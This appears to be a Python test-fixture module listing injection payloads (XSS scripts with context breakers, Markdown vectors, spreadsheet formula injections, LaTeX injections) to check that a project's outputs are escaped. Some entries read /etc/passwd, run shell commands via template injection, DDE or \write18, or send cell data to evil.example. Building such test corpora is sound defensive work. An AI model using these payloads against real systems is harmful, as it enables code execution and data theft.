"""Injection payloads: 120 scripts, 20 formulas, and some LaTeX.

The scripts set ``window.__pwned``, which no page of llmrec sets, so a test can detect that a browser ran one of them.
"""

from __future__ import annotations

_EFFECT = "window.__pwned=1"
_BREAKS = ("", '">', "'>", "</title>", "</pre>", "</style>", "</script>", "</textarea>", "-->", "]]>")
_TAGS = (
    f"<script>{_EFFECT}</script>",
    f"<ScRiPt >{_EFFECT}</sCrIpT >",
    f"<img src=x onerror={_EFFECT}>",
    f"<svg onload={_EFFECT}>",
    f"<svg/onload={_EFFECT}//",
    f"<body onload={_EFFECT}>",
    f"<details open ontoggle={_EFFECT}>",
    f"<iframe srcdoc='<script>parent.{_EFFECT}</script>'></iframe>",
    f"<a href='javascript:{_EFFECT}'>x</a>",
    f"<input autofocus onfocus={_EFFECT}>",
)
_ALONE = (
    f"javascript:{_EFFECT}",
    f"' onmouseover='{_EFFECT}",
    f'" autofocus onfocus="{_EFFECT}',
    f"{{{{ cycler.__init__.__globals__.os.system('{_EFFECT}') }}}}",
    "{% include '/etc/passwd' %}",
    f"&lt;script&gt;{_EFFECT}&lt;/script&gt;",
    f"&#60;script&#62;{_EFFECT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_EFFECT}\\u003c/script\\u003e",
    f"<!--<script>{_EFFECT}//-->",
    f"<![CDATA[<script>{_EFFECT}</script>]]>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_EFFECT}'>",
    f"<base href=data:text/html,<script>{_EFFECT}</script>>",
    f"\x00<script>{_EFFECT}</script>",
    f"\u202e<script>{_EFFECT}</script>\u202c",
    f"<a xlink:href='javascript:{_EFFECT}'><text>x</text></a>",
    f"$<script>{_EFFECT}</script>$",
    f"${{{_EFFECT}}}",
    f"`;{_EFFECT};`",
    f"[x](javascript:{_EFFECT})",
    f'![x](x"onerror="{_EFFECT})',
)
SCRIPTS = tuple(f"{start}{tag}" for start in _BREAKS for tag in _TAGS) + _ALONE

# Payloads that are active in Markdown.
MARKDOWN = (
    # Quoted, because an unquoted attribute must not contain = in Markdown.
    f'<svg onload="{_EFFECT}"></svg>',
    f"<img src='x' onerror='{_EFFECT}'>",
    f'text <b onmouseover="{_EFFECT}">b</b>',
    f"<javascript:{_EFFECT}>",
    f"[x]: javascript:{_EFFECT}",
    f"[x][y] [y]: javascript:{_EFFECT}",
    f"[x](<javascript:{_EFFECT}>)",
    f"`` ` ``<img src=x onerror={_EFFECT}>",
    f"\\<img src=x onerror={_EFFECT}>",
    f"\\`<img src=x onerror={_EFFECT}>\\`",
    f"```\n<script>{_EFFECT}</script>\n```",
    f"| a |\n|---|\n| <svg onload={_EFFECT}> |",
    "# heading",
    "---",
    "- list",
    "> quote",
    "***bold***",
)

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","open")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=1+1","=2+2',
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)
# After characters that a spreadsheet may trim on import.
HIDDEN_FORMULAS = (
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(A1)",
    " \t=1+1",
    "\x0b=1+1",
    "\x1b=1+1",
    "\u2028-1+1",
)

LATEX = (
    r"\input{/etc/passwd}",
    r"\write18{touch pwned}",
    r"\immediate\write18{touch pwned}",
    r"\catcode`\%=12",
    r"\def\x{\x}\x",
    r"\end{tabular}\end{table}\end{document}",
    r"\csname input\endcsname{x}",
    "^^5cinput{x}",
    "^^M",
    "% the rest of this row",
    "a & b & c",
    r"two \\ rows",
    r"\\[-99cm]",
    "$x^2_1$",
    "$$",
    "{",
    "}",
    "#1",
    "~",
    "[t]",
    "*",
    '"',
    "``quoted''",
    "--- -- -",
    ",,low,,",
    "?` !`",
    "<< >>",
    "|",
    "Amélie 🎬 фильм 映画",
    "\x00\x1b\u202e\u2028",
)
